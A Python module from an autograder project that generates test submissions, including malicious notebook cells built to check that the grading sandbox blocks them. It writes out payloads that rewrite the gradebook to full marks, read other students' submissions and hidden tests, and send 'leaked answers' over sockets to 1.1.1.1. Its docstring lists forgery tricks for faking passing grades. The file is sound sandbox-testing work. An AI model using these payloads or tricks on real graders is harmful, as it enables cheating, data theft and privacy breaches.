"""Sample submissions, built from any assignment's source and release notebooks (no
per-assignment code): for tests, the CI check, the benchmark and the instructor's demo.

Honest samples:

- ``perfect``: the release notebook with every answer cell filled from the source's solution;
- ``partial``: the release notebook with the first half of the answer cells filled;
- ``empty``: the release notebook untouched.

Robustness samples (the reason must show in the grading summary):

- ``syntax``: the first answer cell has a syntax error (the rest is perfect);
- ``renamed``: a perfect notebook saved under another name (so the expected one is missing);
- ``missing``: a submission folder without any notebook;
- ``deleted``: a perfect notebook whose first test cell was deleted (it is put back from the
  source and decided, so the sample keeps full marks).

Malicious samples, each a perfect notebook plus an attack (the sandbox must stop each one):

- ``loop``: the first answer cell starts with an infinite loop (the per-cell timeout stops it);
- ``crash``: a cell before the answers kills the kernel (``os._exit``);
- ``gradebook``: a cell that opens the course's gradebook and gives itself full marks;
- ``peek``: a cell that reads other students' submissions and the source notebooks;
- ``tamper``: the first test cell is replaced by ``pass`` and its answer left empty;
- ``socket``: a cell that opens TCP connections (to the grader's loopback and to the internet).

Forgery samples: the *empty* release notebook (or the *wrong* one: every answer a plausible
wrong answer) plus one cell that tries to turn it into points from inside the kernel. Each must
score exactly what its honest base scores (:data:`FORGERIES`), with the reason naming the trick:

- ``hook-clear``: a ``post_run_cell`` hook that clears ``error_in_exec``;
- ``hook-result``: a ``pre_run_cell`` hook that publishes a number before every cell (nbgrader
  reads a test cell's result as partial credit);
- ``no-traceback``: ``showtraceback`` replaced by a no-op;
- ``transformer``: an input transformer that rewrites every later cell to ``pass``;
- ``fake-checker``: a fake ``autograder`` in ``sys.modules``, an import hook serving one, and
  the real one patched where it can be reached;
- ``patched-libs``: ``math.isclose``, numpy's comparisons, ``helpers`` functions and
  ``builtins.isinstance`` replaced;
- ``always-equal``: every answer returns an object whose ``==`` is always true;
- ``settrace``: a trace function that skips every ``raise`` it sees;
- ``exit``: answers, then ``sys.exit()``, a ``KeyboardInterrupt``, and ``os._exit`` at the end;
- ``metadata``: test cells' points raised, an answer cell turned into a test cell, ids renamed;
- ``duplicate``: a test cell pasted twice (same grade id): this submission alone fails, clearly.

Resource samples (perfect answers, then one abuse; the limits are those in force, tests lower
them with ``AUTOGRADER_LIMITS``): ``memory``, ``fork``, ``threads``, ``cpu``, ``disk``, ``tmp``,
``filesize``, ``output``. Each keeps the points earned before the abuse.

``xss`` puts a script in a markdown answer and in an output (for the browser test), and
``cross`` tries to write into other students' submissions and the course.

:func:`designed_score` is the score each sample is built to get; ``python -m autograder demo``
fails when a graded sample's score differs from it.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat

HONEST = ("perfect", "partial", "empty")
ROBUSTNESS = ("syntax", "renamed", "missing", "deleted")
MALICIOUS = ("loop", "crash", "gradebook", "peek", "tamper", "socket")
#: Forgery kind -> the honest kind it is built on (its designed score is that kind's).
FORGERIES = {
    "hook-clear": "empty", "hook-result": "empty", "no-traceback": "empty",
    "transformer": "empty", "fake-checker": "empty", "patched-libs": "empty",
    "always-equal": "empty", "settrace": "empty", "exit": "perfect", "metadata": "empty",
    "cross": "perfect", "xss": "perfect",
}
RESOURCES = ("memory", "fork", "threads", "cpu", "disk", "tmp", "filesize", "output")
FAILING = ("duplicate",)  # graded as failed, with a reason
KINDS = HONEST + ROBUSTNESS + MALICIOUS + tuple(FORGERIES) + RESOURCES + FAILING

_MARKERS = ("BEGIN SOLUTION", "END SOLUTION")


def _nbgrader(cell: dict) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _solutions(source_nb: nbformat.NotebookNode) -> dict[str, str]:
    """grade_id -> the answer as a student would write it (solution markers removed)."""
    out = {}
    for cell in source_nb.cells:
        meta = _nbgrader(cell)
        if meta.get("solution") and meta.get("grade_id"):
            lines = [line for line in cell.source.splitlines()
                     if not any(marker in line for marker in _MARKERS)]
            out[meta["grade_id"]] = "\n".join(lines)
    return out


def _answer_cells(nb: nbformat.NotebookNode, kind: str = "code") -> list[int]:
    return [i for i, c in enumerate(nb.cells)
            if _nbgrader(c).get("solution") and c.cell_type == kind]


def _test_cells(nb: nbformat.NotebookNode) -> list[int]:
    return [i for i, c in enumerate(nb.cells)
            if _nbgrader(c).get("grade") and not _nbgrader(c).get("solution")
            and c.cell_type == "code"]


def fill(release_nb: nbformat.NotebookNode, source_nb: nbformat.NotebookNode,
         fraction: float = 1.0) -> nbformat.NotebookNode:
    """A copy of ``release_nb`` with the first ``fraction`` of its code answers (and all its
    written answers when ``fraction`` is 1) filled in from ``source_nb``."""
    nb = copy.deepcopy(release_nb)
    answers = _solutions(source_nb)
    code = _answer_cells(nb)
    keep = set(code[: round(len(code) * fraction)])
    if fraction >= 1:
        keep |= set(_answer_cells(nb, "markdown"))
    for i in keep:
        grade_id = _nbgrader(nb.cells[i]).get("grade_id")
        if grade_id in answers:
            nb.cells[i].source = answers[grade_id]
    return nb


def _cell(source: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_code_cell(source)


def _insert_before_answers(nb: nbformat.NotebookNode, source: str) -> None:
    answers = _answer_cells(nb)
    nb.cells.insert(answers[0] if answers else len(nb.cells), _cell(source))


def _attack(kind: str, root: Path, assignment: str, target: tuple[str, int]) -> str:
    root_s = json.dumps(str(root))
    if kind == "gradebook":
        return (
            "# attack: give myself full marks in the gradebook\n"
            "import pathlib, sqlite3\n"
            f"candidates = [pathlib.Path({root_s}) / 'gradebook.db']\n"
            "candidates += [pathlib.Path.cwd().parents[i] / 'gradebook.db' for i in range(3)]\n"
            "found = [p for p in candidates if p.exists()]\n"
            "for path in found:\n"
            "    db = sqlite3.connect(path)\n"
            "    db.execute('UPDATE grade SET manual_score = 1000')\n"
            "    db.commit()\n"
            "if not found:\n"
            "    raise FileNotFoundError('attack blocked: no gradebook in reach')\n"
        )
    if kind == "peek":
        return (
            "# attack: read other submissions and the source (solutions, hidden tests)\n"
            "import pathlib\n"
            f"root = pathlib.Path({root_s})\n"
            f"patterns = ['submitted/*/{assignment}/*.ipynb', 'source/{assignment}/*.ipynb',"
            f" 'autograded/*/{assignment}/*.ipynb']\n"
            "stolen = [p for pat in patterns for p in root.glob(pat)]\n"
            "stolen += list(pathlib.Path.cwd().glob('*.ipynb'))\n"
            "stolen += list(pathlib.Path.cwd().parent.parent.glob('*/*/*.ipynb'))\n"
            "texts = [p.read_text()[:100] for p in stolen]\n"
            "if not texts:\n"
            "    raise FileNotFoundError('attack blocked: no other notebook in reach')\n"
            "print(len(texts), 'notebooks stolen')\n"
        )
    if kind == "socket":
        host, port = target
        return (
            "# attack: reach the network (exfiltrate, download answers)\n"
            "import socket\n"
            f"for address in [({host!r}, {port}), ('1.1.1.1', 80)]:\n"
            "    with socket.create_connection(address, timeout=5) as s:\n"
            "        s.sendall(b'leaked answers')\n"
            "print('network reached')\n"
        )
    raise ValueError(kind)


def build(kind: str, release_nb: nbformat.NotebookNode, source_nb: nbformat.NotebookNode, *,
          root: Path, assignment: str,
          target: tuple[str, int] = ("127.0.0.1", 9)) -> nbformat.NotebookNode | None:
    """The notebook of one sample kind (None for ``missing``)."""
    if kind not in KINDS:
        raise ValueError(f"unknown sample kind {kind!r}; choose from {', '.join(KINDS)}")
    if kind == "missing":
        return None
    if kind == "empty":
        return copy.deepcopy(release_nb)
    if kind == "partial":
        return fill(release_nb, source_nb, 0.5)
    if kind in FORGERIES:
        return _forgery(kind, release_nb, source_nb, root, assignment)
    if kind in RESOURCES:
        return _resource(kind, release_nb, source_nb)
    if kind == "duplicate":
        return _duplicate(release_nb, source_nb)
    nb = fill(release_nb, source_nb)
    answers = _answer_cells(nb)
    if kind == "deleted":
        tests = _test_cells(nb)
        if tests:
            del nb.cells[tests[0]]
    elif kind == "syntax" and answers:
        nb.cells[answers[0]].source = "def broken(:\n" + nb.cells[answers[0]].source
    elif kind == "loop" and answers:
        nb.cells[answers[0]].source = "while True:\n    pass\n" + nb.cells[answers[0]].source
    elif kind == "crash":
        _insert_before_answers(nb, "# attack: kill the kernel\nimport os\nos._exit(1)\n")
    elif kind == "tamper":
        tests = _test_cells(nb)
        if tests:
            nb.cells[tests[0]].source = "pass  # the test was here"
            before = [i for i in answers if i < tests[0]]
            if before:
                nb.cells[before[-1]].source = release_nb.cells[before[-1]].source
    elif kind in {"gradebook", "peek", "socket"}:
        nb.cells.append(_cell(_attack(kind, root, assignment, target)))
    return nb


def _forgery(kind: str, release_nb: nbformat.NotebookNode, source_nb: nbformat.NotebookNode,
             root: Path, assignment: str) -> nbformat.NotebookNode:
    from autograder.samples import attacks

    base = FORGERIES[kind]
    nb = copy.deepcopy(release_nb) if base == "empty" else fill(release_nb, source_nb)
    code = {"hook-clear": attacks.HOOK_CLEAR, "hook-result": attacks.HOOK_RESULT,
            "no-traceback": attacks.NO_TRACEBACK, "transformer": attacks.TRANSFORMER,
            "fake-checker": attacks.FAKE_CHECKER, "patched-libs": attacks.PATCHED_LIBS,
            "settrace": attacks.SETTRACE, "exit": attacks.EXIT_EARLY,
            "always-equal": attacks.ALWAYS_EQUAL_CLASS}.get(kind)
    if code is not None:
        _insert_before_answers(nb, code)
    if kind == "always-equal":
        for i in _answer_cells(nb):
            lines = nb.cells[i].source.splitlines()
            nb.cells[i].source = "\n".join(
                line.replace("raise NotImplementedError()", "return _Always()")
                if line.startswith((" ", "\t")) else line.replace("raise NotImplementedError()",
                                                                  "pass")
                for line in lines)
    elif kind == "exit":
        nb.cells.append(_cell(attacks.EXIT_LAST))
    elif kind == "cross":
        nb.cells.append(_cell(attacks.cross(str(root), assignment)))
    elif kind == "xss":
        for i in _answer_cells(nb, "markdown"):
            nb.cells[i].source = attacks.XSS_MARKDOWN
        nb.cells.append(_cell(attacks.XSS_OUTPUT))
    elif kind == "metadata":
        for i in _test_cells(nb):
            nb.cells[i].metadata.nbgrader["points"] = 100
        for i in _answer_cells(nb)[:1]:
            nb.cells[i].metadata.nbgrader.update(grade=True, points=50, locked=True)
        for i in _test_cells(nb)[-1:]:
            nb.cells[i].metadata.nbgrader["locked"] = False
        nb.metadata["kernelspec"] = {"name": "python2", "display_name": "Python 2",
                                     "language": "python"}
    return nb


def _resource(kind: str, release_nb: nbformat.NotebookNode,
              source_nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """A perfect notebook with one abuse of a limit right after its first test cell."""
    from autograder.samples import attacks

    nb = fill(release_nb, source_nb)
    tests = _test_cells(nb)
    nb.cells.insert(tests[0] + 1 if tests else len(nb.cells), _cell(attacks.resource(kind)))
    return nb


def _duplicate(release_nb: nbformat.NotebookNode,
               source_nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = fill(release_nb, source_nb)
    tests = _test_cells(nb)
    if tests:
        nb.cells.insert(tests[0] + 1, copy.deepcopy(nb.cells[tests[0]]))
    return nb


def _points(nb: nbformat.NotebookNode, cells: list[int]) -> float:
    return sum(float(_nbgrader(nb.cells[i]).get("points") or 0) for i in cells)


def designed_score(kind: str, release_nb: nbformat.NotebookNode,
                   source_nb: nbformat.NotebookNode) -> float | None:
    """The autograded score a sample of ``kind`` is built to get on this notebook (None for a
    submission built to fail): the grading design, stated per kind."""
    tests = _test_cells(release_nb)
    full = _points(release_nb, tests)
    first = _points(release_nb, tests[:1])
    if kind in FAILING:
        return None
    if kind in FORGERIES:
        kind = FORGERIES[kind]
    if kind in {"perfect", "gradebook", "peek", "socket", "deleted"} or (
            kind in RESOURCES and kind != "cpu"):
        return full
    if kind == "cpu":  # the kernel is stopped right after the first test cell
        return first
    if kind in {"empty", "renamed", "missing", "crash"}:
        return 0.0
    if kind in {"syntax", "loop", "tamper"}:  # the first answer fails; checks isolate the rest
        return full - first
    if kind == "partial":
        filled = set(_answer_cells(fill(release_nb, source_nb, 0.5)))
        kept = {i for i in filled if fill(release_nb, source_nb, 0.5).cells[i].source
                != release_nb.cells[i].source}
        score, previous = 0.0, -1
        answers = _answer_cells(release_nb)
        for test in tests:
            mine = [a for a in answers if previous < a < test]
            if mine and all(a in kept for a in mine):
                score += _points(release_nb, [test])
            previous = test
        return score
    raise ValueError(kind)


def write_samples(root: Path, assignment: str, kinds: tuple[str, ...] | list[str] = KINDS, *,
                  prefix: str = "", copies: int = 1,
                  target: tuple[str, int] = ("127.0.0.1", 9)) -> list[str]:
    """Write sample submissions of ``assignment`` into ``root/submitted/<student>/<assignment>``,
    one student per kind (``<prefix><kind>``, and ``-<n>`` suffixes when ``copies`` > 1); the
    release folder must exist (``python -m autograder release``). Returns the student ids."""
    root = Path(root).resolve()
    release_dir = root / "release" / assignment
    source_dir = root / "source" / assignment
    notebooks = sorted(p.name for p in source_dir.glob("*.ipynb"))
    if not notebooks:
        raise FileNotFoundError(f"no notebook in {source_dir}")
    missing = [n for n in notebooks if not (release_dir / n).is_file()]
    if missing:
        raise FileNotFoundError(
            f"{release_dir} lacks {', '.join(missing)}: run `python -m autograder release` first"
        )
    students = []
    for kind in kinds:
        for n in range(copies):
            student = f"{prefix}{kind}" + (f"-{n + 1}" if copies > 1 else "")
            folder = root / "submitted" / student / assignment
            folder.mkdir(parents=True, exist_ok=True)
            for name in notebooks:
                release_nb = nbformat.read(release_dir / name, as_version=4)
                source_nb = nbformat.read(source_dir / name, as_version=4)
                nb = build(kind, release_nb, source_nb, root=root, assignment=assignment,
                           target=target)
                if nb is None:
                    continue
                out = folder / (f"my_{name}" if kind == "renamed" else name)
                nbformat.write(nb, out)
            # Data files the release ships (the student works beside them).
            for path in release_dir.rglob("*"):
                rel = path.relative_to(release_dir)
                if path.is_file() and path.suffix != ".ipynb":
                    (folder / rel).parent.mkdir(parents=True, exist_ok=True)
                    (folder / rel).write_bytes(path.read_bytes())
            students.append(student)
    return students
